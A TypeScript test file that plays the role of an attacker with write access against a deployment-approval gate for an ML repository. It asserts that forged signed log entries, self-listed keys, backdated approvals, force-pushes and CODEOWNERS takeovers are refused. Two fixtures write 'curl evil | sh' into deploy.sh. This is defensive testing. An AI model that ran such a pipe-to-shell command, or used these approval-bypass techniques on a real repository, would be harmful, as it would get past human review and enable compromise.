import { generateKeyPairSync } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type AuditEntry, type Checkpoint, type EventDraft, sealSigned } from '../src/audit/entry.js';
import { deploymentEvent } from '../src/audit/events.js';
import { MemoryStore } from '../src/audit/memory-store.js';
import { ed25519Signer, type Signer } from '../src/audit/signature.js';
import { type AuditStore, recordAll } from '../src/audit/store.js';
import { verifyLog } from '../src/audit/verify.js';
import { trustedCheckpoint } from '../src/github/checkpoint-status.js';
import { gateDeployment, recordDeployment } from '../src/github/evaluate.js';
import { createGitHub } from '../src/github/octokit.js';
import { FakeGitHub } from './fake-github.js';
import { conformantRepo } from './helpers.js';
import {
  approvedInLog,
  GATE_CONFIG,
  ORG_CONFIG,
  RepositoryHistory,
  review,
  TEST_GATE,
} from './repository-history.js';

/**
 * A security review of the deployment gate as an attacker with write access to the repository (push to any
 * unprotected branch, open and merge pull requests, create deployments and statuses, push to the log branch),
 * against the fake GitHub on 127.0.0.1. An attack the gate refuses is an ordinary test that asserts the refusal
 * and its reason; an attack that still succeeds is `it.fails`, with the steps and the fix in a comment, so the
 * suite stays green and the hole stays visible. When a fix lands, its `it.fails` starts failing: make it `it`.
 */
const REPOSITORY = { owner: 'acme', repo: 'ml-platform' };
const CONFIG = GATE_CONFIG.replace(
  'audit-log: none\n',
  "audit-log: none\nrelease:\n  branches: [main, 'release/*']\n",
);

let fake: FakeGitHub;
let repo: RepositoryHistory;
/** The gate's log branch: anyone who can push to it can append (chained) or rewrite it. */
let log: MemoryStore;

const newKey = (): Signer =>
  ed25519Signer(generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }) as string);

/** A genuine deployment the gate approved: in GitHub's deployments and signed in its log. */
async function deploy(commit: string, environment = 'production', signer: Signer = TEST_GATE) {
  repo.deployed(commit, environment);
  await approvedInLog(log, 'acme/ml-platform', commit, environment, repo.head(), signer);
}

const gate = (commit: string, environment = 'production', config?: string, store: AuditStore = log) =>
  gateDeployment(
    createGitHub({ token: 't', baseUrl: fake.url, retries: 0, throttle: { enabled: false } }),
    REPOSITORY,
    { commit, environment },
    { today: '2026-11-01', history: () => store, ...(config ? { config } : {}) },
  );

/** A change to the high-risk system's model code: needs alice-or-anyone and the governance team. */
const retrain = (files: Record<string, string>) => ({
  ...files,
  'models/credit-scoring/train.py': `${files['models/credit-scoring/train.py'] ?? ''}# backdoor\n`,
});
const withConfig = (change: (config: string) => string) => (files: Record<string, string>) => ({
  ...files,
  '.github/aims-gate.yml': change(files['.github/aims-gate.yml']!),
});
/** The config with one more key listed under `signers`. */
/** Lists a key under the repository's own `signers` (the gate's key is the organisation's). */
const listKey = (key: Signer, role = 'gate') =>
  withConfig((c) => {
    const line = `  - { key: ${key.publicKey}, role: ${role}, name: ci }\n`;
    return c.includes('signers:\n') ? c.replace('signers:\n', `signers:\n${line}`) : `${c}signers:\n${line}`;
  });
const short = (sha: string) => sha.slice(0, 7);

beforeEach(async () => {
  fake = await new FakeGitHub('acme/ml-platform').start();
  fake.answer('GET', '/orgs/acme/teams/ai-governance/members', [{ login: 'gov-lead', id: 7 }]);
  repo = new RepositoryHistory(fake, { ...conformantRepo(), '.github/aims-gate.yml': CONFIG });
  log = new MemoryStore();
  await deploy(repo.head());
});
afterEach(() => fake.stop());

describe('issue 20’s ten attacks, redone against signed history', () => {
  it('1. a forged, re-chained deployment.approved (unsigned, or signed by an unlisted key) does not shorten the change set', async () => {
    const evil = repo.pullRequest({ number: 1, change: retrain, approvers: [] });
    const fix = repo.pullRequest({
      number: 2,
      change: (f) => ({ ...f, 'README.md': 'x\n' }),
      approvers: ['alice'],
    });
    await approvedInLog(log, 'acme/ml-platform', evil.mergeCommit!, 'production', repo.head(), null);
    await approvedInLog(log, 'acme/ml-platform', evil.mergeCommit!, 'production', repo.head(), newKey());
    const decision = await gate(fix.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('#1 (high risk: credit-scoring): waiting for 1 more of 1 approval');
  });

  it('2. a forged entry naming the deployed commit itself ("nothing new") is not believed', async () => {
    const pushed = repo.push('main', retrain, 'straight to main');
    await approvedInLog(log, 'acme/ml-platform', pushed, 'production', repo.head(), null);
    const decision = await gate(pushed);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain(
      `${short(pushed)} "straight to main" was pushed without a pull request`,
    );
  });

  it('3. a GitHub deployment made by any workflow is no starting point, even with no log', async () => {
    const pushed = repo.push('main', retrain, 'straight to main');
    repo.deployed(pushed);
    const empty = await gate(pushed, 'production', undefined, new MemoryStore());
    expect(empty.approved).toBe(false);
    expect(empty.reason).toMatch(/^GitHub records 2 deployments to production .*set release\.baseline/);
    const decision = await gate(pushed);
    expect(decision.reason).toContain('was pushed without a pull request');
  });

  it('4. an unapproved config change on main (audit-log, release.baseline) rejects a deployment from release/1', async () => {
    fake.branch('release/1', repo.head());
    const pushed = repo.push('release/1', retrain, 'unreviewed on the release branch');
    repo.pullRequest({
      number: 3,
      change: withConfig((c) =>
        c
          .replace('audit-log: none', `audit-log: branch:empty\n`)
          .replace('release:\n', `release:\n  baseline: ${pushed}\n`),
      ),
      approvers: ['alice'],
    });
    const fix = repo.pullRequest({
      number: 4,
      into: 'release/1',
      change: (f) => ({ ...f, 'FIX.md': '1\n' }),
      approvers: ['alice'],
    });
    const decision = await gate(fix.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('#3 (changes the aims-gate configuration or a policy pack');
  });

  it('5. an approval from someone without write access does not count', async () => {
    fake.readOnly.add('gov-lead');
    const pr = repo.pullRequest({ number: 5, change: retrain, approvers: ['alice', 'gov-lead'] });
    const decision = await gate(pr.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('1 more of 1 approval from team acme/ai-governance');
  });

  it('6. the pusher of the final head approving does not count', async () => {
    const pr = repo.pullRequest({ number: 6, change: retrain, approvers: ['alice', 'gov-lead'] });
    pr.forcePush = { by: 'gov-lead', to: pr.head };
    const decision = await gate(pr.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('1 more of 1 approval from team acme/ai-governance');
  });

  it('7. a co-author approving does not count', async () => {
    const pr = repo.pullRequest({ number: 7, change: retrain, approvers: ['alice', 'gov-lead'] });
    pr.people = { [pr.commits[0]!]: { authors: ['dev', 'gov-lead', null] } };
    const decision = await gate(pr.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('1 more of 1 approval from team acme/ai-governance');
  });

  it.each([
    ['a trailing space', 'production '],
    ['a zero-width space', 'production\u200b'],
    ['an unknown name', 'prod'],
    ['the empty name', ''],
    ['a right-to-left mark', '\u200fproduction'],
    ['a non-breaking space inside', 'produc\u00a0tion'],
  ])('8. an environment with %s never gets "no approvals required"', async (_what, environment) => {
    const pushed = repo.push('main', retrain, 'straight to main');
    const decision = await gate(pushed, environment);
    expect(decision.approved).toBe(false);
  });
});

describe('new attacks on signed history', () => {
  // Found, and refused since: the keys that decide which log entries are the gate's came from the default
  // branch's head, the very config whose changes the gate is meant to judge, and the signed entry said which
  // config judged it: the attacker named the head, so the change that listed their key was never judged. Now only
  // an entry signed by a key the organisation lists (where the repository's writers cannot) says which config
  // judged it; the repository's own keys' entries have the config judged from the baseline or the start.
  it('listing your own key under signers on main (unapproved) and signing a "nothing new" entry', async () => {
    const attacker = newKey();
    // 1. One direct push to main (no pull request, no review): the backdoor and the attacker's key, role gate.
    const evil = repo.push('main', (f) => listKey(attacker)(retrain(f)), 'tidy up');
    // 2. Append to the log branch an approval of that commit, signed by the attacker's key, naming the head
    //    of main as the config that judged it.
    await approvedInLog(log, 'acme/ml-platform', evil, 'production', repo.head(), attacker);
    // 3. Deploy it: "nothing new since the last approved deployment (…, signed by the gate key ci)".
    const decision = await gate(evil);
    expect(decision.approved).toBe(false);
  });

  it('the same through an unapproved pull request merged into main, deploying release/1', async () => {
    const attacker = newKey();
    fake.branch('release/1', repo.head());
    const evil = repo.push('release/1', retrain, 'hotfix');
    repo.pullRequest({ number: 6, change: listKey(attacker), approvers: [] });
    await approvedInLog(log, 'acme/ml-platform', evil, 'production', repo.head(), attacker);
    const decision = await gate(evil);
    expect(decision.approved).toBe(false);
  });

  it('a self-listed key without a forged "config" in the entry: the config change is judged and refused', async () => {
    // The same key, but the forged entry names the config of the last genuine deployment: then the change that
    // listed the key is in the change set and needs every rule. So the hole is the entry's own `config`.
    const attacker = newKey();
    const genuineConfig = repo.head();
    const evil = repo.push('main', (f) => listKey(attacker)(retrain(f)), 'tidy up');
    await approvedInLog(log, 'acme/ml-platform', evil, 'production', genuineConfig, attacker);
    const decision = await gate(evil);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain(
      `${short(evil)} "tidy up" changed the trusted configuration on main without a pull request merged into it`,
    );
  });

  it('listing a key with role person does not make its entries the gate’s', async () => {
    const attacker = newKey();
    const pr = repo.pullRequest({
      number: 7,
      change: listKey(attacker, 'person'),
      approvers: ['alice', 'gov-lead'],
    });
    await deploy(pr.mergeCommit!);
    const evil = repo.push('main', retrain, 'straight to main');
    await approvedInLog(log, 'acme/ml-platform', evil, 'production', repo.head(), attacker);
    const decision = await gate(evil);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('was pushed without a pull request');
  });

  // Found, and refused since: `until` is compared with the entry's own `time`, which its signer writes. Whoever
  // holds a rotated-out key backdated a new entry and the gate trusted it, even after entries signed by the new
  // key. Now an entry by a rotated key after one by a current key is not believed (README: still remove a leaked
  // key rather than rotate it: before the new key's first entry, the old one's backdated entries still count).
  it('a rotated-out key signs a backdated approval appended after the new key’s entries', async () => {
    const current = newKey();
    // The rotation, in the organisation's config where the gate's keys are: the old key (TEST_GATE) until
    // 2026-11-01, the new one after.
    fake.organisation.set(
      '.github/aims-gate.yml',
      ORG_CONFIG.replace(
        'role: gate, name: the test gate }',
        `role: gate, name: old, until: '2026-11-01' }\n  - { key: ${current.publicKey}, role: gate, name: new }`,
      ),
    );
    const rotate = repo.pullRequest({
      number: 8,
      change: (f) => ({ ...f, 'README.md': 'rotated\n' }),
      approvers: ['alice', 'gov-lead'],
    });
    repo.deployed(rotate.mergeCommit!);
    await recordDeployment(
      log,
      { approved: true, reason: 'ok', config: repo.head() },
      {
        time: '2026-11-25T00:00:00Z',
        actor: { login: 'aims-gate' },
        subject: { repository: 'acme/ml-platform', commit: rotate.mergeCommit!, environment: 'production' },
        writer: 'aims-gate Action',
        signer: current,
      },
    );
    const evil = repo.push('main', retrain, 'straight to main');
    await recordDeployment(
      log,
      { approved: true, reason: 'ok', config: repo.head() },
      {
        time: '2026-10-31T00:00:00Z', // backdated inside the old key's window
        actor: { login: 'aims-gate' },
        subject: { repository: 'acme/ml-platform', commit: evil, environment: 'production' },
        writer: 'aims-gate Action',
        signer: TEST_GATE,
      },
    );
    const decision = await gate(evil);
    expect(decision.approved).toBe(false);
    // The genuine entry, by the new key, is believed: the attack is the backdated one alone.
    expect(decision.reason).not.toContain('could not decide');
  });

  it('a genuine signed approval for another environment, or another repository, is no starting point', async () => {
    // dev needs no approvals: the gate itself signs an approval of an unreviewed pull request there.
    repo.pullRequest({
      number: 9,
      change: withConfig((c) => `${c}  - environment: dev\n    require: []\n`),
      approvers: ['alice', 'gov-lead'],
    });
    await deploy(repo.head());
    await deploy(repo.head(), 'dev');
    const evil = repo.pullRequest({ number: 11, change: retrain, approvers: [] }).mergeCommit!;
    const dev = await gate(evil, 'dev');
    expect(dev.approved).toBe(true);
    await approvedInLog(log, 'acme/ml-platform', evil, 'dev', repo.head());
    // The same commit signed for another repository, and for production by nobody trusted.
    await approvedInLog(log, 'acme/other-repo', evil, 'production', repo.head());
    await approvedInLog(log, 'acme/ml-platform', evil, 'Production ', repo.head(), null);
    const decision = await gate(evil);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('#11 (high risk: credit-scoring): waiting for 1 more of 1 approval');
  });

  it('a truncated log branch (force-pushed back to an older prefix) only widens the change set', async () => {
    const pr = repo.pullRequest({ number: 10, change: retrain, approvers: ['alice', 'gov-lead'] });
    await deploy(pr.mergeCommit!);
    const evil = repo.push('main', retrain, 'straight to main');
    const decision = await gate(evil, 'production', undefined, truncated(log.text, 1));
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain(`${short(evil)} "straight to main" was pushed without a pull request`);
    // The start is the older genuine approval (entry 1): #10 is judged again, and passes.
    expect(decision.verdict!.pullRequests.map((p) => p.number)).toEqual([10]);
  });
});

describe('new attacks on the config-change tracking', () => {
  // Found, and refused since: configChangesOf took a "diverged" compare as fine. Force-push main back to before an
  // approved config change: the merge base is older than that change, so the diff from it showed no config
  // file, and the older, weaker config was trusted again, unjudged. The judged config must now be an ancestor.
  it('force-pushing main to before an approved tightening does not bring the old rules back', async () => {
    // The start: main's config asks for one approval only, at every tier.
    const weak = repo.pullRequest({
      number: 20,
      change: withConfig((c) =>
        c.replace(/ {2}- environment: production\n {4}tiers:[^\n]*\n {4}require:[^\n]*\n/, ''),
      ),
      approvers: ['alice', 'gov-lead'],
    });
    await deploy(weak.mergeCommit!);
    // The team tightens it (the governance team for high risk), approved by everyone, and deploys it.
    const strict = repo.pullRequest({
      number: 21,
      change: withConfig(() => CONFIG),
      approvers: ['alice', 'gov-lead'],
    });
    await deploy(strict.mergeCommit!);
    // 1. Force-push main back to before the tightening (no branch protection against force pushes).
    fake.branch('main', weak.mergeCommit!);
    // 2. A high-risk change, approved by alice alone, merged: the rules at its base are the weak ones too.
    const evil = repo.pullRequest({ number: 22, change: retrain, approvers: ['alice'] });
    // 3. Deploy it: the compare from #21's merge to main's head is "diverged", its diff (from the merge base)
    //    holds no config file, so the weak config judged and approved.
    const decision = await gate(evil.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toMatch(
      /^aims-gate could not decide, so it fails closed: the default branch main no longer holds \w{7}, whose config judged the last approved deployment \(its history was rewritten, diverged\)/,
    );
  });

  it('a force-push that drops the judged config commit entirely (gone from the repository) fails closed', async () => {
    const strict = repo.pullRequest({
      number: 23,
      change: (f) => ({ ...f, 'README.md': 'y\n' }),
      approvers: ['alice'],
    });
    await deploy(strict.mergeCommit!);
    // The entry names a config commit GitHub no longer has (garbage-collected after a rewrite).
    await approvedInLog(log, 'acme/ml-platform', strict.mergeCommit!, 'production', 'f'.repeat(40));
    const decision = await gate(strict.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('a rewritten history');
  });

  it('an unapproved change to a policy pack the config extends is judged like the config', async () => {
    const pack = repo.pullRequest({
      number: 24,
      change: (f) => ({
        ...withConfig((c) => `extends: ./policies/team.yml\n${c}`)(f),
        'policies/team.yml':
          'id: team\ntitle: Team\nversion: "1"\ndescription: ours\nextends: iso42001-baseline\nrules: []\n',
      }),
      approvers: ['alice', 'gov-lead'],
    });
    await deploy(pack.mergeCommit!);
    repo.pullRequest({
      number: 25,
      change: (f) => ({
        ...f,
        'policies/team.yml': 'id: team\ntitle: Team\nversion: "2"\ndescription: ours\nrules: []\n',
      }),
      approvers: ['alice'],
    });
    const fix = repo.pullRequest({
      number: 26,
      change: (f) => ({ ...f, 'README.md': 'z\n' }),
      approvers: ['alice'],
    });
    const decision = await gate(fix.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('#25 (changes the aims-gate configuration or a policy pack');
  });
});

describe('new attacks on the App’s entries and the checkpoint statuses', () => {
  it('an environment reviewer’s approval, signed by the App, is no approval of the change set', async () => {
    const app = newKey();
    const pr = repo.pullRequest({
      number: 30,
      change: listKey(app, 'app'),
      approvers: ['alice', 'gov-lead'],
    });
    await deploy(pr.mergeCommit!);
    const evil = repo.push('main', retrain, 'straight to main');
    // A reviewer with the environment's reviewer role approves the run in GitHub's UI: the App records it.
    await recordAll(
      log,
      [
        deploymentEvent(
          { approved: true, reason: 'lgtm', by: 'environment reviewer' },
          {
            time: '2026-11-21T00:00:00Z',
            actor: { login: 'gov-lead', via: 'github' },
            subject: { repository: 'acme/ml-platform', commit: evil, environment: 'production' },
          },
        ),
      ],
      { signer: app },
    );
    const decision = await gate(evil);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain(`${short(evil)} "straight to main" was pushed without a pull request`);
  });

  it('a forged checkpoint status (any creator) over a rewritten log names no gate-signed entry: not believed', async () => {
    const [, two] = await checkpointLog();
    const forged = await sealSigned(note(), two, newKey());
    expect(
      trustedCheckpoint([status(forged, 'mallory')], { entryAt: () => forged, trusted: GATE_KEYS }),
    ).toBeUndefined();
  });

  // Found: trustedCheckpoint skipped a status whose entry is not in the log at hand. Truncate the log branch back
  // to a gate-signed entry (dropping a rejection, an incident, a later decision): the genuine status naming the
  // dropped entry was skipped in silence, and the older status was "the" checkpoint, so verify reported a match.
  // Now that status is believed, unverified, and the truncated log does not reach it.
  it('a log truncated back to a gate-signed entry no longer "matches": the status past its end is the checkpoint', async () => {
    const entries = await checkpointLog();
    const [, two, three] = entries as [AuditEntry, AuditEntry, AuditEntry];
    const truncatedTo = [entries[0]!, two]; // the log branch force-pushed back: entry 3 is gone
    const statuses = [status(three, 'github-actions[bot]'), status(two, 'github-actions[bot]')];
    const believed = trustedCheckpoint(statuses, {
      entryAt: (seq) => truncatedTo[seq - 1],
      trusted: GATE_KEYS,
    });
    expect(believed?.checkpoint).toEqual({ seq: 3, hash: three.hash });
    expect(believed?.why).toMatch(
      /^names entry 3, past the end of the log at hand .*truncated, or the status is forged$/,
    );
    const store = new MemoryStore();
    let head: Checkpoint | undefined;
    for (const entry of truncatedTo) head = await store.append(entry, head);
    const verified = await verifyLog(store.lines(), believed!.checkpoint);
    expect(verified.ok).toBe(false);
  });
});

describe('new attacks on approvals', () => {
  // Found: GitHub's commits do not say who pushed them, and the gate inferred the last pusher from the head's
  // committer, which git lets the pusher write. Mallory pushed the backdoor onto Alice's pull request as "Alice"
  // (author and committer), then approved it herself. The pusher now comes from GitHub's repository activity.
  it('pushing onto someone else’s pull request with a forged committer, then approving it', async () => {
    const pr = repo.pullRequest({
      number: 40,
      author: 'alice',
      change: (f) => ({ ...f, 'deploy.sh': 'curl evil | sh\n' }),
      // The final head is Mallory's push; git says alice wrote and committed it (the fake's default: the author).
      approvers: ['mallory'],
      pushedBy: 'mallory',
    });
    const decision = await gate(pr.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.verdict!.pullRequests[0]!.approval.ignored).toContainEqual({
      login: 'mallory',
      reason: `pushed the final head ${pr.head.slice(0, 7)} (GitHub's repository activity): GitHub does not count an approval by whoever pushed last`,
    });
  });

  it('a pull request whose last push GitHub’s activity does not record: who may not approve is unknown, rejected', async () => {
    const pr = repo.pullRequest({
      number: 42,
      author: 'alice',
      change: (f) => ({ ...f, 'deploy.sh': 'echo ok\n' }),
      approvers: ['bob'],
      pushedBy: null,
    });
    const decision = await gate(pr.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toMatch(
      /who pushed the final head [0-9a-f]{7} of #42, who may not approve it, is unknown/,
    );
  });

  it('a reviewer who approved, was dismissed, and approves again on the final head counts once, as on GitHub', async () => {
    const pr = repo.pullRequest({
      number: 41,
      change: (f) => ({ ...f, 'README.md': 'w\n' }),
      reviews: (head, own) => [
        { ...review('bob', own[0]!), id: 1, submitted_at: '2026-11-20T10:00:00Z' },
        { ...review('bob', own[0]!, 'DISMISSED'), id: 2, submitted_at: '2026-11-20T11:00:00Z' },
        { ...review('bob', head), id: 3, submitted_at: '2026-11-20T12:00:00Z' },
      ],
    });
    expect(await gate(pr.mergeCommit!)).toMatchObject({ approved: true });
    // Dismissed last: no approval.
    pr.reviews.push({ ...review('bob', pr.head, 'DISMISSED'), id: 4, submitted_at: '2026-11-20T13:00:00Z' });
    expect((await gate(pr.mergeCommit!)).approved).toBe(false);
  });

  it('a team member who left the team, or lost write access, no longer counts (read live)', async () => {
    const pr = repo.pullRequest({ number: 42, change: retrain, approvers: ['alice', 'gov-lead'] });
    expect((await gate(pr.mergeCommit!)).approved).toBe(true);
    fake.answer('GET', '/orgs/acme/teams/ai-governance/members', [{ login: 'someone-else', id: 9 }]);
    expect((await gate(pr.mergeCommit!)).approved).toBe(false);
  });
});

describe('new attacks on CODEOWNERS and the release branches’ configs', () => {
  // Found: CODEOWNERS is read only at the default branch's head, so a pull request that rewrites CODEOWNERS is
  // judged by the owners it writes. GitHub judges a pull request by the CODEOWNERS of its base: there, the old
  // owners must approve the change of owners. Two writers (or one with a second account that can push) take
  // over every path a codeowners rule protects.
  // Refused since: a pull request that changes CODEOWNERS is judged by the owners at its base.
  it('a pull request that makes its own approver the owner of everything is judged by the owners before it', async () => {
    // A common policy: one approval, and the code owners of what changed (no team rule besides).
    const config = `${CONFIG.replace(/ {2}- environment: production\n {4}tiers:[^\n]*\n {4}require:[^\n]*\n/, '')}  - environment: production\n    require: [{ codeowners: true }]\n`;
    repo = new RepositoryHistory(fake, {
      ...conformantRepo(),
      '.github/aims-gate.yml': config,
      '.github/CODEOWNERS': '*   @security-lead\n',
    });
    fake.deployments.length = 0;
    log = new MemoryStore();
    await deploy(repo.head());
    const takeover = repo.pullRequest({
      number: 50,
      author: 'mallory',
      change: (f) => ({ ...f, '.github/CODEOWNERS': '*   @bob\n', 'deploy.sh': 'curl evil | sh\n' }),
      approvers: ['bob'],
    });
    const decision = await gate(takeover.mergeCommit!);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain('#50');
    expect(decision.reason).toContain('@security-lead');
  });

  it('a key listed only in a release branch’s config, or in the deployed commit’s, is not trusted', async () => {
    const attacker = newKey();
    fake.branch('release/1', repo.head());
    const evil = repo.push('release/1', (f) => listKey(attacker)(retrain(f)), 'hotfix');
    await approvedInLog(log, 'acme/ml-platform', evil, 'production', repo.head(), attacker);
    const decision = await gate(evil);
    expect(decision.approved).toBe(false);
    expect(decision.reason).toContain(`${short(evil)} "hotfix" was pushed without a pull request`);
  });
});

/** The gate's key as the trusted config lists it. */
const GATE_KEYS = [{ key: TEST_GATE.publicKey, role: 'gate' as const }];
const note = (): EventDraft => ({
  type: 'deployment.rejected',
  time: '2026-11-02T10:00:00.000Z',
  actor: { login: 'aims-gate' },
  subject: { repository: 'acme/ml-platform', commit: 'a'.repeat(40), environment: 'production' },
  details: {},
  evidence: [],
});
/** Three entries signed by the gate: 1 and 2 approvals, 3 a rejection the attacker wants gone. */
async function checkpointLog(): Promise<AuditEntry[]> {
  const one = await sealSigned({ ...note(), type: 'deployment.approved' }, undefined, TEST_GATE);
  const two = await sealSigned({ ...note(), type: 'deployment.approved' }, one, TEST_GATE);
  const three = await sealSigned(note(), two, TEST_GATE);
  return [one, two, three];
}
const status = (entry: AuditEntry, creator: string) => ({
  checkpoint: { seq: entry.seq, hash: entry.hash },
  creator,
  createdAt: '2026-11-02T10:00:01Z',
});

/** A log holding its lines up to the `entries`-th deployment approval (what a force-push of the log branch leaves). */
function truncated(lines: string[], entries: number): MemoryStore {
  const store = new MemoryStore();
  let kept = 0;
  for (const line of lines) {
    if (kept >= entries) break;
    store.text.push(line);
    if (JSON.parse(line).type === 'deployment.approved') kept++;
  }
  return store;
}
